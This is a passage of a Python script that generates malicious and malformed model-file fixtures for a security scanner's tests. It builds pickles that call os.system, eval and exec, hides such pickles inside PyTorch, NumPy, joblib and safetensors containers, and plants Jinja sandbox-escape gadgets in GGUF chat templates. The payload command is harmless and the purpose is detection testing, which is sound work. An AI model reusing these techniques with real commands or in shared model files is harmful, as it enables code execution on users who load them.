#!/usr/bin/env python3
"""Generate the crafted malicious / malformed fixtures under testdata/models/malicious/.

Pure Python standard library, no third-party imports. Every fixture is built by emitting pickle
opcodes (and zip / npy / joblib container bytes, safetensors headers and GGUF key/values) as raw
bytes.

    !!! NOTHING HERE IS EVER UNPICKLED. !!!

This script never calls pickle.load/loads, torch.load, joblib.load or numpy.load. Structure is
checked only statically (pickletools.genops through testdata/gen/pickle_static.py, zipfile's
directory listing). Do not "test" a fixture by loading it: most of them run a shell command.

Usage:  python3 testdata/gen/gen_malicious.py        (from the repository root, or anywhere)

Output is deterministic: running it twice gives identical bytes. It also rewrites the
"malicious/" entries of testdata/models/manifest.json (benign entries are left alone).
"""

import io
import json
import os
import struct
import sys
import zipfile
import bz2
import gzip
import lzma
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # keep testdata/gen free of __pycache__
sys.path.insert(0, HERE)
import pickle_static  # noqa: E402  (stdlib-only static analyser next to this file)

MODELS = os.path.normpath(os.path.join(HERE, "..", "models"))
OUT = os.path.join(MODELS, "malicious")

# The harmless command that the payloads would run if anybody ever loaded them.
CMD = "echo llmguard-fixture"

# ---------------------------------------------------------------------------------------------
# Opcode emitters (names follow pickletools / Lib/pickle.py)
# ---------------------------------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
APPEND = b"a"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
BINPERSID = b"Q"


def proto(n):
    return b"\x80" + bytes([n])


def glob(mod, name):
    """GLOBAL opcode (protocol 0-3 style import)."""
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def inst(mod, name):
    return b"i" + mod.encode() + b"\n" + name.encode() + b"\n"


def string0(s):
    """Protocol 0 STRING (quoted repr)."""
    return b"S" + repr(s).encode() + b"\n"


def unicode0(s):
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def binunicode(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def sbu(s):
    """SHORT_BINUNICODE."""
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def sbstring(b):
    """SHORT_BINSTRING (bytes, decoded by py3 unpickler as str with encoding)."""
    return b"U" + bytes([len(b)]) + b


def binint1(n):
    return b"K" + bytes([n])


def binint2(n):
    return b"M" + struct.pack("<H", n)


def binint(n):
    return b"J" + struct.pack("<i", n)


def long1(n):
    nb = (n.bit_length() + 8) // 8
    return b"\x8a" + bytes([nb]) + n.to_bytes(nb, "little", signed=True)


def put(i):
    return b"p" + str(i).encode() + b"\n"


def get(i):
    return b"g" + str(i).encode() + b"\n"


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def long_binput(i):
    return b"r" + struct.pack("<I", i)


def long_binget(i):
    return b"j" + struct.pack("<I", i)


def ext1(c):
    return b"\x82" + bytes([c])


def ext2(c):
    return b"\x83" + struct.pack("<H", c)


def ext4(c):
    return b"\x84" + struct.pack("<i", c)


def persid0(s):
    return b"P" + s.encode() + b"\n"


def frame(body):
    """Wrap protocol-4+ opcodes in one FRAME, the way CPython's framer does for small pickles."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def xxh32(data, seed=0):
    """xxHash32, for the LZ4 frame header checksum (no third-party module needed)."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    m = 0xFFFFFFFF
    rotl = lambda x, r: ((x << r) | (x >> (32 - r))) & m
    n, i = len(data), 0
    if n >= 16:
        v = [(seed + p1 + p2) & m, (seed + p2) & m, seed & m, (seed - p1) & m]
        while i + 16 <= n:
            for k in range(4):
                lane = struct.unpack_from("<I", data, i + 4 * k)[0]
                v[k] = (rotl((v[k] + lane * p2) & m, 13) * p1) & m
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & m
    else:
        h = (seed + p5) & m
    h = (h + n) & m
    while i + 4 <= n:
        h = (rotl((h + struct.unpack_from("<I", data, i)[0] * p3) & m, 17) * p4) & m
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & m, 11) * p1) & m
        i += 1
    h ^= h >> 15
    h = (h * p2) & m
    h ^= h >> 13
    h = (h * p3) & m
    h ^= h >> 16
    return h


def lz4_frame_stored(payload):
    """An LZ4 frame whose single block is stored uncompressed (valid per the frame spec)."""
    flg, bd = 0x60, 0x70  # version 01, independent blocks; 4 MiB max block
    head = bytes([flg, bd])
    out = b"\x04\x22\x4d\x18" + head + bytes([(xxh32(head) >> 8) & 0xFF])
    out += struct.pack("<I", 0x80000000 | len(payload)) + payload
    return out + struct.pack("<I", 0)


def p2_call(mod, name, arg=CMD):
    """Protocol 2: GLOBAL mod name, (arg,), REDUCE, STOP."""
    return proto(2) + glob(mod, name) + binunicode(arg) + TUPLE1 + REDUCE + STOP


def p4_call(mod, name, arg=CMD):
    """Protocol 4: STACK_GLOBAL from two literal strings, called with REDUCE."""
    body = (sbu(mod) + MEMOIZE + sbu(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE
            + sbu(arg) + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP)
    return proto(4) + frame(body)


OS_SYSTEM_P2 = p2_call("os", "system")


# ---------------------------------------------------------------------------------------------
# Zip writer with full control over every header field (deterministic: fixed date/time)
# ---------------------------------------------------------------------------------------------

DOS_TIME = 0
DOS_DATE = (0 << 9) | (1 << 5) | 1  # 1980-01-01


class Member:
    def __init__(self, name, data, method=0, local_name=None, flags=0, crc=None, zip64=False,
                 share_with=None, level=9):
        self.name = name
        self.data = data
        self.method = method  # 0 stored, 8 deflated, 12 bzip2
        self.local_name = local_name if local_name is not None else name
        self.flags = flags
        self.crc = crc  # override the recorded CRC
        self.zip64 = zip64
        self.share_with = share_with  # index of an earlier member whose local entry to reuse
        self.level = level


def _compress(m):
    if m.method == 0:
        return m.data
    if m.method == 8:
        c = zlib.compressobj(m.level, zlib.DEFLATED, -15, 9)
        return c.compress(m.data) + c.flush()
    if m.method == 12:
        import bz2
        return bz2.compress(m.data, 9)
    raise ValueError(m.method)


def build_zip(members, prefix=b"", zip64_end=False, comment=b""):
    """Return the bytes of a zip archive. ``prefix`` is written before the first local header
    (offsets are absolute, as a self-extracting / polyglot writer would produce)."""
    out = bytearray(prefix)
    records = []  # (member, crc, comp, offset)
    for i, m in enumerate(members):
        if m.share_with is not None:
            _, crc, comp, off = records[m.share_with]
            records.append((m, crc, comp, off))
            continue
        comp = _compress(m)
        crc = zlib.crc32(m.data) & 0xFFFFFFFF if m.crc is None else m.crc
        off = len(out)
        lname = m.local_name.encode("utf-8")
        if m.zip64:
            extra = struct.pack("<HHQQ", 0x0001, 16, len(m.data), len(comp))
            csz = usz = 0xFFFFFFFF
            need = 45
        else:
            extra = b""
            csz, usz = len(comp), len(m.data)
            need = 20 if m.method != 12 else 46
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, need, m.flags, m.method, DOS_TIME,
                           DOS_DATE, crc, csz, usz, len(lname), len(extra))
        out += lname + extra + comp
        records.append((m, crc, comp, off))
    cd_start = len(out)
    for m, crc, comp, off in records:
        name = m.name.encode("utf-8")
        if m.zip64:
            extra = struct.pack("<HHQQQ", 0x0001, 24, len(m.data), len(comp), off)
            csz = usz = offv = 0xFFFFFFFF
            need = 45
        else:
            extra = b""
            csz, usz, offv = len(comp), len(m.data), off
            need = 20 if m.method != 12 else 46
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 63, need, m.flags,
                           m.method, DOS_TIME, DOS_DATE, crc, csz, usz, len(name), len(extra),
                           0, 0, 0, 0o100644 << 16, offv)
        out += name + extra
    cd_size = len(out) - cd_start
    n = len(records)
    if zip64_end:
        z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cd_size, cd_start)
        out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                           0xFFFFFFFF, len(comment))
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_start, len(comment))
    out += comment
    return bytes(out)


# ---------------------------------------------------------------------------------------------
# PyTorch-like payloads
# ---------------------------------------------------------------------------------------------

def torch_state_dict_pickle(evil=True):
    """A protocol-2 data.pkl like torch.save writes for {'weight': tensor([1., 2.])}, plus
    (if evil) an extra entry '__evil__' whose value is os.system(CMD)."""
    p = bytearray(proto(2))
    p += glob("collections", "OrderedDict") + binput(0) + EMPTY_TUPLE + REDUCE + binput(1)
    p += MARK
    p += binunicode("weight") + binput(2)
    p += glob("torch._utils", "_rebuild_tensor_v2") + binput(3)
    p += MARK  # args of _rebuild_tensor_v2
    p += MARK + binunicode("storage") + binput(4) + glob("torch", "FloatStorage") + binput(5)
    p += binunicode("0") + binput(6) + binunicode("cpu") + binput(7) + binint1(2) + TUPLE
    p += binput(8) + BINPERSID + binput(9)
    p += binint1(0) + binint1(2) + TUPLE1 + binput(10) + binint1(1) + TUPLE1 + binput(11)
    p += NEWFALSE + glob("collections", "OrderedDict") + binput(12) + EMPTY_TUPLE + REDUCE
    p += binput(13) + TUPLE + binput(14) + REDUCE + binput(15)
    if evil:
        p += binunicode("__evil__") + binput(16) + glob("os", "system") + binput(17)
        p += binunicode(CMD) + binput(18) + TUPLE1 + binput(19) + REDUCE + binput(20)
    p += SETITEMS + STOP
    return bytes(p)


BENIGN_DATA_PKL = torch_state_dict_pickle(evil=False)
EVIL_DATA_PKL = torch_state_dict_pickle(evil=True)
STORAGE0 = struct.pack("<2f", 1.0, 2.0)


def torch_members(data_pkl, extra=(), method=0, prefix="archive", data_pkl_member=None):
    ms = [data_pkl_member or Member(prefix + "/data.pkl", data_pkl, method=method),
          Member(prefix + "/byteorder", b"little", method=method),
          Member(prefix + "/data/0", STORAGE0, method=method)]
    ms += list(extra)
    ms += [Member(prefix + "/version", b"3\n", method=method),
           Member(prefix + "/.data/serialization_id", b"1234567890123456789012345678901234567890",
                  method=method)]
    return ms


# ---------------------------------------------------------------------------------------------
# NumPy
# ---------------------------------------------------------------------------------------------

def npy_header(header_text, version=(1, 0)):
    """Magic + version + length + header padded with spaces to a 64-byte boundary, '\n' last."""
    h = header_text.encode("latin-1")
    pre = 10 if version[0] == 1 else 12
    total = pre + len(h) + 1
    pad = (64 - total % 64) % 64
    h = h + b" " * pad + b"\n"
    assert (pre + len(h)) % 64 == 0
    if version[0] == 1:
        return b"\x93NUMPY" + bytes(version) + struct.pack("<H", len(h)) + h
    return b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(h)) + h


OBJ_HEADER = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"


def numpy_object_array_pickle():
    """What np.save writes for an object array: a protocol-3 pickle of the ndarray, whose
    single element here is the result of os.system(CMD)."""
    p = bytearray(proto(3))
    p += glob("numpy.core.multiarray", "_reconstruct") + binput(0)
    p += glob("numpy", "ndarray") + binput(1) + binint1(0) + TUPLE1 + binput(2)
    p += b"C" + bytes([1]) + b"b" + binput(3) + TUPLE3 + binput(4) + REDUCE + binput(5)
    p += MARK + binint1(1) + binint1(1) + TUPLE1 + binput(6)
    p += glob("numpy", "dtype") + binput(7) + binunicode("O8") + binput(8) + NEWFALSE + NEWTRUE
    p += TUPLE3 + binput(9) + REDUCE + binput(10)
    p += MARK + binint1(3) + binunicode("|") + binput(11) + NONE + NONE + NONE
    p += binint(-1) + binint(-1) + binint1(63) + TUPLE + binput(12) + BUILD
    p += NEWFALSE
    p += EMPTY_LIST + binput(13) + glob("os", "system") + binput(14) + binunicode(CMD)
    p += TUPLE1 + REDUCE + APPEND
    p += TUPLE + binput(15) + BUILD + STOP
    return bytes(p)


# ---------------------------------------------------------------------------------------------
# joblib
# ---------------------------------------------------------------------------------------------

class Memo:
    def __init__(self):
        self.n = 0
        self.idx = {}

    def m(self, key=None):
        if key is not None:
            self.idx[key] = self.n
        self.n += 1
        return MEMOIZE


def joblib_malicious(dtype_descr="f8", shape=(4,), array_bytes=None, start_offset=0):
    """A joblib.dump-style stream (protocol 4) for {'w': <float64 array of 4>, 'x': os.system(..)}.

    Layout, exactly as NumpyPickler writes it: the NumpyArrayWrapper is pickled (STACK_GLOBAL,
    EMPTY_TUPLE, NEWOBJ, state dict, BUILD), the current frame is committed, then one byte with
    the padding length, that many 0xff bytes (so the array starts on a 16-byte boundary of the
    file), the raw array bytes, and then the pickle stream simply continues in a new frame.
    """
    mm = Memo()
    a = bytearray()
    a += EMPTY_DICT + mm.m() + MARK
    a += sbu("w") + mm.m()
    a += sbu("joblib.numpy_pickle") + mm.m() + sbu("NumpyArrayWrapper") + mm.m()
    a += STACK_GLOBAL + mm.m() + EMPTY_TUPLE + NEWOBJ + mm.m()
    a += EMPTY_DICT + mm.m() + MARK
    a += sbu("subclass") + mm.m() + sbu("numpy") + mm.m("numpy") + sbu("ndarray") + mm.m()
    a += STACK_GLOBAL + mm.m()
    a += sbu("shape") + mm.m()
    for d in shape:
        a += binint1(d)
    a += {1: TUPLE1, 2: TUPLE2, 3: TUPLE3}[len(shape)] + mm.m()
    a += sbu("order") + mm.m() + sbu("C") + mm.m()
    a += sbu("dtype") + mm.m() + binget(mm.idx["numpy"]) + sbu("dtype") + mm.m()
    a += STACK_GLOBAL + mm.m() + sbu(dtype_descr) + mm.m() + NEWFALSE + NEWTRUE + TUPLE3
    a += mm.m() + REDUCE + mm.m()
    a += MARK + binint1(3) + sbu("<") + mm.m() + NONE + NONE + NONE + binint(-1) + binint(-1)
    a += binint1(0) + TUPLE + mm.m() + BUILD
    a += sbu("allow_mmap") + mm.m() + NEWFALSE
    a += sbu("numpy_array_alignment_bytes") + mm.m() + binint1(16)
    a += SETITEMS + BUILD
    head = proto(4) + frame(bytes(a))
    pos = start_offset + len(head)
    pad = 16 - ((pos + 1) % 16)
    if array_bytes is None:
        array_bytes = struct.pack("<4d", 0.5, 1.5, 2.5, 3.5)
    raw = bytes([pad]) + b"\xff" * pad + array_bytes
    b = bytearray()
    b += sbu("x") + mm.m() + sbu("os") + mm.m() + sbu("system") + mm.m() + STACK_GLOBAL + mm.m()
    b += sbu(CMD) + mm.m() + TUPLE1 + mm.m() + REDUCE + mm.m() + SETITEMS + STOP
    return head + raw + frame(bytes(b))


# ---------------------------------------------------------------------------------------------
# Fixture registry
# ---------------------------------------------------------------------------------------------

FIXTURES = []  # (relative path under malicious/, bytes, kind, technique, expect, imports)


def fx(path, data, technique, expect, imports=(), kind="malicious"):
    FIXTURES.append((path, data, kind, technique, list(expect), list(imports)))


# ---------------------------------------------------------------------------------------------
# safetensors and GGUF (crafted headers; tensor bytes are zeros)
# ---------------------------------------------------------------------------------------------

TEMPLATES = os.path.normpath(os.path.join(HERE, "..", "chat_templates", "benign"))


def st_file(header, payload_len, length=None, raw_header=None):
    """A safetensors file: 8-byte little-endian header length, the JSON header (written as
    given, so duplicate keys survive), then ``payload_len`` zero bytes."""
    h = raw_header if raw_header is not None else header.encode("utf-8")
    n = len(h) if length is None else length
    return struct.pack("<Q", n) + h + b"\x00" * payload_len


def st_entry(name, dtype, shape, begin, end):
    return '"%s":{"dtype":"%s","shape":[%s],"data_offsets":[%d,%d]}' % (
        name, dtype, ",".join(str(d) for d in shape), begin, end)


def st_header(*entries, metadata='{"format":"pt"}'):
    parts = (['"__metadata__":' + metadata] if metadata is not None else []) + list(entries)
    return "{" + ",".join(parts) + "}"


GGUF_U32, GGUF_STRING, GGUF_ARRAY, GGUF_U64 = 4, 8, 9, 10


def gg_str(s):
    b = s.encode("utf-8") if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b


def gg_kv(key, vtype, payload):
    return gg_str(key) + struct.pack("<I", vtype) + payload


def gg_kv_str(key, value):
    return gg_kv(key, GGUF_STRING, gg_str(value))


def gg_tokens(tokens):
    return gg_kv("tokenizer.ggml.tokens", GGUF_ARRAY,
                 struct.pack("<IQ", GGUF_STRING, len(tokens)) + b"".join(gg_str(t) for t in tokens))


def gg_base_kvs(name):
    return [gg_kv_str("general.architecture", "llama"), gg_kv_str("general.name", name),
            gg_kv("general.alignment", GGUF_U32, struct.pack("<I", 32)),
            gg_kv_str("tokenizer.ggml.model", "llama"),
            gg_tokens(["<unk>", "<s>", "</s>", "a", "b"])]


def gguf_file(kvs, version=3, n_kv=None, n_tensors=None, tensors=(("tok_embeddings.weight", (4, 5)),)):
    """GGUF v``version``: header, key/values, tensor infos (F32, type 0), padding to 32 and
    zeroed tensor data."""
    out = bytearray(b"GGUF" + struct.pack("<I", version))
    out += struct.pack("<QQ", len(tensors) if n_tensors is None else n_tensors,
                       len(kvs) if n_kv is None else n_kv)
    out += b"".join(kvs)
    offset = 0
    for name, dims in tensors:
        out += gg_str(name) + struct.pack("<I", len(dims)) + struct.pack("<%dQ" % len(dims), *dims)
        out += struct.pack("<IQ", 0, offset)
        size = 4
        for d in dims:
            size *= d
        offset += (size + 31) // 32 * 32
    out += b"\x00" * (-len(out) % 32)
    out += b"\x00" * offset
    return bytes(out)


def template(name):
    with open(os.path.join(TEMPLATES, name), encoding="utf-8") as fh:
        return fh.read()


def formats_fixtures():
    # --- safetensors: every header problem, one file each -----------------------------------
    ok_a = st_entry("embed.weight", "F32", [2, 4], 0, 32)
    ok_b = st_entry("lm_head.bias", "F16", [4], 32, 40)
    fx("st_header_length_beyond_file.safetensors",
       st_file(st_header(ok_a), 32, length=1 << 20),
       "safetensors whose 8-byte header length (1048576) points past the end of the file",
       ["MOD301"], kind="malformed")
    fx("st_header_length_2_64.safetensors",
       st_file(st_header(ok_a), 32, length=(1 << 64) - 1),
       "safetensors header length 2^64-1 (over the reference reader's 100 MB cap and the file)",
       ["MOD301"], kind="malformed")
    fx("st_header_not_json.safetensors",
       st_file('{"embed.weight":{"dtype":"F32","shape":[2,4],"data_offsets":[0,32]', 32),
       "safetensors header cut before its closing braces: not valid JSON", ["MOD301"], kind="malformed")
    fx("st_header_not_utf8.safetensors",
       st_file(None, 32, raw_header=b'{"embed.\xff\xfe":{"dtype":"F32","shape":[2,4],"data_offsets":[0,32]}}'),
       "safetensors header with invalid UTF-8 bytes in a tensor name", ["MOD301"], kind="malformed")
    fx("st_duplicate_tensor_key.safetensors",
       st_file("{" + ",".join([st_entry("lm_head.weight", "F32", [2, 4], 0, 32),
                               st_entry("lm_head.weight", "F32", [2, 4], 32, 64)]) + "}", 64),
       "safetensors header naming tensor `lm_head.weight` twice with different byte ranges: JSON "
       "readers keep different copies, so two tools load different weights", ["MOD301"])
    fx("st_duplicate_metadata_key.safetensors",
       st_file(st_header(ok_a, metadata='{"format":"pt","format":"pickle"}'), 32),
       "safetensors __metadata__ with the key `format` twice (`pt`, then `pickle`)", ["MOD301"])
    fx("st_unknown_dtype.safetensors",
       st_file(st_header(st_entry("embed.weight", "Q7_K", [2, 4], 0, 32)), 32),
       "safetensors tensor with dtype `Q7_K`, unknown to the reference reader", ["MOD302"], kind="malformed")
    fx("st_size_mismatch.safetensors",
       st_file(st_header(st_entry("embed.weight", "F32", [3, 4], 0, 32)), 32),
       "safetensors tensor F32 [3,4] (48 bytes) whose data_offsets span 32 bytes", ["MOD303"], kind="malformed")
    fx("st_shape_overflow.safetensors",
       st_file(st_header(st_entry("embed.weight", "F64", [4294967296, 4294967296, 16], 0, 32)), 32),
       "safetensors shape whose element count × 8 overflows 64 bits (wraps to a small size in "
       "unchecked arithmetic)", ["MOD303"], kind="malformed")
    fx("st_out_of_bounds.safetensors",
       st_file(st_header(ok_a, st_entry("lm_head.bias", "F16", [4], 32, 40)), 36),
       "safetensors tensor whose data_offsets end (40) past the 36-byte payload", ["MOD303"], kind="malformed")
    fx("st_overlap.safetensors",
       st_file(st_header(ok_a, st_entry("lm_head.weight", "F32", [2, 4], 16, 48)), 48),
       "safetensors tensors whose byte ranges overlap ([0,32) and [16,48))", ["MOD303"])
    hidden = OS_SYSTEM_P2 + b"\x00" * (-len(OS_SYSTEM_P2) % 8)
    body = bytearray(st_file(st_header(st_entry("embed.weight", "F32", [2, 4], 0, 32),
                                       st_entry("lm_head.bias", "F16", [4], 32 + len(hidden), 40 + len(hidden))),
                             40 + len(hidden)))
    start = len(body) - (40 + len(hidden)) + 32
    body[start:start + len(OS_SYSTEM_P2)] = OS_SYSTEM_P2
    fx("st_gap_hides_pickle.safetensors", bytes(body),
       "safetensors with an unclaimed gap between two tensors that holds an os.system pickle",
       ["MOD303", "MOD101"], ["os.system"])
    evil_zip = build_zip(torch_members(EVIL_DATA_PKL))
    fx("st_trailing_torch_zip.safetensors", st_file(st_header(ok_a, ok_b), 40) + evil_zip,
       "valid safetensors followed by a malicious PyTorch zip checkpoint in trailing bytes no "
       "tensor claims", ["MOD303", "MOD101"], ["os.system"])
    fx("st_metadata_not_string.safetensors",
       st_file(st_header(ok_a, metadata='{"format":"pt","layers":{"n":2},"epochs":3}'), 32),
       "safetensors __metadata__ with non-string values (an object and a number); the reference "
       "reader refuses them", ["MOD304"], kind="malformed")

    # --- GGUF: malformed headers ---------------------------------------------------------------
    base = gg_base_kvs("tiny-malformed")
    fx("gguf_bad_version.gguf", gguf_file(base, version=4),
       "GGUF with version 4 (only 1-3 exist)", ["MOD311"], kind="malformed")
    fx("gguf_big_endian.gguf", gguf_file(base, version=3 << 24),
       "GGUF whose version reads 3 only byte-swapped (a big-endian file)", ["MOD311"], kind="malformed")
    fx("gguf_kv_count_2_64.gguf", gguf_file(base, n_kv=(1 << 64) - 1),
       "GGUF metadata key/value count 2^64-1", ["MOD311"], kind="malformed")
    fx("gguf_tensor_count_huge.gguf", gguf_file(base, n_tensors=1 << 40),
       "GGUF tensor count 2^40", ["MOD311"], kind="malformed")
    fx("gguf_string_length_huge.gguf",
       gguf_file(base[:1] + [gg_kv("general.name", GGUF_STRING, struct.pack("<Q", (1 << 63) + 5) + b"x")]),
       "GGUF string value whose 64-bit length is 2^63+5", ["MOD311"], kind="malformed")
    fx("gguf_array_count_huge.gguf",
       gguf_file(base[:2] + [gg_kv("tokenizer.ggml.scores", GGUF_ARRAY, struct.pack("<IQ", 6, (1 << 62)))]),
       "GGUF float32 array declaring 2^62 elements", ["MOD311"], kind="malformed")
    full = gguf_file(base)
    fx("gguf_truncated.gguf", full[:240],
       "GGUF cut off inside its key/values (the first 240 bytes of a valid file)", ["MOD311"], kind="malformed")
    fx("gguf_duplicate_key.gguf",
       gguf_file(base + [gg_kv_str("general.name", "other-name")]),
       "GGUF with the key `general.name` twice", ["MOD311"], kind="malformed")
    fx("gguf_tensor_five_dims.gguf", gguf_file(base, tensors=(("blk.0.w", (1, 1, 1, 1, 4)),)),
       "GGUF tensor info with 5 dimensions (GGML allows 4)", ["MOD311"], kind="malformed")
    fx("gguf_template_not_string.gguf",
       gguf_file(base + [gg_kv("tokenizer.chat_template", GGUF_U32, struct.pack("<I", 7))]),
       "GGUF whose tokenizer.chat_template is a uint32, not a string", ["MOD311"], kind="malformed")

    # --- GGUF: chat templates with SSTI gadgets ---------------------------------------------
    llama3 = template("llama3.jinja")
    qwen2 = template("qwen2.jinja")
    ssti = [
        ("cycler_globals_os_popen", llama3 + "{{ cycler.__init__.__globals__.os.popen('@CMD@').read() }}",
         "Llama 3 template plus `cycler.__init__.__globals__.os.popen(...)`"),
        ("lipsum_globals_subscript", qwen2.replace(
            "{% endfor %}", "{% endfor %}{{ lipsum.__globals__['os'].popen('@CMD@').read() }}", 1),
         "Qwen2 template with `lipsum.__globals__['os'].popen(...)` after the message loop"),
        ("subclasses_catch_warnings",
         "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
         "{{ c()._module.__builtins__['__import__']('os').popen('@CMD@').read() }}{% endif %}{% endfor %}"
         + llama3, "the object.__subclasses__() walk to warnings.catch_warnings and its __builtins__"),
        ("attr_hex_escapes",
         llama3 + "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')"
         "|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
         "`|attr()` with dunder names spelled as \\x5f escapes"),
        ("string_concat_dunders",
         "{%- set g = '__glo' + 'bals__' %}{%- set i = '__in' ~ 'it__' %}"
         "{{ (joiner|attr(i)|attr(g))['o' + 's'].system('@CMD@') }}" + qwen2,
         "dunder names split into concatenated literals ('__glo' + 'bals__', '__in' ~ 'it__') "
         "applied through `|attr` on `joiner`"),
        ("list_join_dunders",
         "{{ namespace|attr(['__', 'init', '__']|join)|attr(['__', 'glo', 'bals', '__']|join) }}" + qwen2,
         "dunder names built with `['__', 'init', '__']|join` on `namespace`"),
        ("self_template_reference",
         llama3 + "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('@CMD@') }}",
         "`self._TemplateReference__context` to reach the render context's cycler"),
        ("char_building_obfuscation",
         llama3 + "{% set u = (()|select|string)[24] %}{{ ()|attr(dict(a=1)|join ~ u) }}",
         "identifier characters built from `(()|select|string)[24]` and `dict(...)|join` (no "
         "literal dunder anywhere)"),
    ]
    for name, text, what in ssti:
        kvs = gg_base_kvs("tiny-ssti") + [gg_kv_str("tokenizer.chat_template", text.replace("@CMD@", CMD))]
        data = gguf_file(kvs)
        fx("gguf_ssti_%s.gguf" % name, data,
           "GGUF v3 whose tokenizer.chat_template is " + what, ["MOD312"])
    named = gg_base_kvs("tiny-ssti") + [
        gg_kv_str("tokenizer.chat_template", llama3),
        gg_kv_str("tokenizer.chat_template.tool_use",
                  "{{ cycler.__init__.__globals__.os.popen('%s').read() }}" % CMD)]
    fx("gguf_ssti_named_tool_use_template.gguf", gguf_file(named),
       "GGUF with a benign default template and a gadget in the named template "
       "tokenizer.chat_template.tool_use", ["MOD312"])


def build_all():
    # 1 -------------------------------------------------------------------------------------
    fx("proto0_global_os_system.pkl",
       glob("os", "system") + MARK + string0(CMD) + TUPLE + REDUCE + STOP,
       "protocol 0: GLOBAL os system, MARK, STRING, TUPLE, REDUCE", ["MOD101"], ["os.system"])

    # 2 -------------------------------------------------------------------------------------
    fx("proto2_global_posix_system.pkl",
       proto(2) + glob("posix", "system") + binput(0) + binunicode(CMD) + TUPLE1 + REDUCE + STOP,
       "protocol 2: GLOBAL posix system (os.system's real module on Linux) + REDUCE",
       ["MOD101"], ["posix.system"])
    fx("proto2_global_builtin_eval.pkl",
       proto(2) + glob("__builtin__", "eval") + sbstring(b"__import__('os').system('id')")
       + TUPLE1 + REDUCE + STOP,
       "protocol 2: GLOBAL __builtin__ eval (Python 2 module name, mapped to builtins by "
       "fix_imports) + REDUCE", ["MOD101"], ["__builtin__.eval"])
    fx("proto4_stack_global_builtins_exec.pkl",
       p4_call("builtins", "exec", "import os; os.system('id')"),
       "protocol 4: SHORT_BINUNICODE 'builtins'/'exec' + MEMOIZE, STACK_GLOBAL, REDUCE (framed)",
       ["MOD101"], ["builtins.exec"])

    # 3 memo-sourced STACK_GLOBAL -------------------------------------------------------------
    body = (EMPTY_LIST + binput(0) + MARK + sbu("os") + binput(1) + sbu("system") + binput(2)
            + sbu("weights") + binput(3) + APPENDS
            + binget(1) + binget(2) + STACK_GLOBAL + binput(4) + sbu(CMD) + TUPLE1 + REDUCE
            + TUPLE2 + STOP)
    fx("memo_binput_binget_stack_global.pkl", proto(4) + frame(body),
       "STACK_GLOBAL whose module/name come from BINGET of strings BINPUT earlier inside an "
       "innocent list ['os','system','weights']", ["MOD101"], ["os.system"])

    body = (EMPTY_LIST + MEMOIZE + MARK + sbu("os") + MEMOIZE + sbu("system") + MEMOIZE
            + sbu("bias") + MEMOIZE + APPENDS
            + binget(1) + binget(2) + STACK_GLOBAL + MEMOIZE + sbu(CMD) + TUPLE1 + REDUCE
            + TUPLE2 + STOP)
    fx("memo_memoize_binget_stack_global.pkl", proto(4) + frame(body),
       "STACK_GLOBAL whose operands are BINGET of strings stored with MEMOIZE (implicit "
       "indices 1 and 2) inside an innocent list", ["MOD101"], ["os.system"])

    body = (EMPTY_LIST + MARK + sbu("os") + long_binput(70000) + sbu("system")
            + long_binput(0x01020304) + APPENDS
            + long_binget(70000) + long_binget(0x01020304) + STACK_GLOBAL + sbu(CMD) + TUPLE1
            + REDUCE + TUPLE2 + STOP)
    fx("memo_long_binget_stack_global.pkl", proto(4) + frame(body),
       "STACK_GLOBAL operands from LONG_BINGET of sparse memo indices 70000 and 0x01020304 "
       "(LONG_BINPUT)", ["MOD101"], ["os.system"])

    data = (MARK + b"l" + put(0) + unicode0("os") + put(1) + APPEND + unicode0("system") + put(2)
            + APPEND + POP + get(1) + get(2) + STACK_GLOBAL + MARK + unicode0(CMD) + TUPLE
            + REDUCE + STOP)
    fx("memo_proto0_put_get_stack_global.pkl", data,
       "no PROTO header, text opcodes: UNICODE 'os'/'system' stored with PUT in a list, fetched "
       "with GET and fed to STACK_GLOBAL", ["MOD101"], ["os.system"])

    data = (proto(2) + glob("collections", "OrderedDict") + binput(0) + POP
            + binunicode("numpy") + binput(1) + POP + binunicode("ndarray") + binput(2) + POP
            + binunicode("os") + binput(1) + POP + binunicode("system") + binput(2) + POP
